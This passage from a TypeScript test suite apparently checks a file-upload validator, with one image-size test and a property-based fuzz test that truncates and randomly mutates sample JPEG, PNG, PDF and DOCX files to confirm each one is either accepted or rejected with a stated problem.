    ['only a head', 'a.jpg', () => Buffer.from('ffd8ffe000104a464946', 'hex')],
  ])

  test('20,000 pixels are not too long', async () => {
    expect(await outcome('a.png', await samples.png(20_000, 10))).toBe('a.png')
  })
})

describe('whatever happens to a file on its way, it is taken or it is not', () => {
  const whole = TAKEN.map(([name, , make]): [string, () => Buffer | Promise<Buffer>] => [name, make])
  const more: [string, () => Buffer][] = [
    [
      'stm.pdf',
      () => pdf([objectStream('<< /A [1 (b) <63>] >>'), stream('/Filter /FlateDecode', flate('q Q'))]),
    ],
    ['chart.docx', () => docx({ name: 'word/embeddings/a.xlsx', bytes: xlsx() })],
  ]
  const change = fc.record({ at: fc.double({ min: 0, max: 0.999999, noNaN: true }), byte: fc.nat(255) })
  const changes = fc.record({
    keep: fc.oneof(fc.constant(1), fc.double({ min: 0, max: 1, noNaN: true })),
    bytes: fc.array(change, { maxLength: 8 }),
  })

  test.each([...whole, ...more])('%s', async (name, make) => {
    const original = await make()
    await fc.assert(
      fc.asyncProperty(changes, async ({ keep, bytes }) => {
        const mutant = Buffer.from(original.subarray(0, Math.round(original.length * keep)))
        for (const { at, byte } of bytes) if (mutant.length > 0) mutant[Math.floor(at * mutant.length)] = byte
        const { files, problem } = await examined(name, mutant)
        expect(files === null).toBe(problem !== null)
      }),
      { seed: 20261123, numRuns: 60 },
    )
  })
})
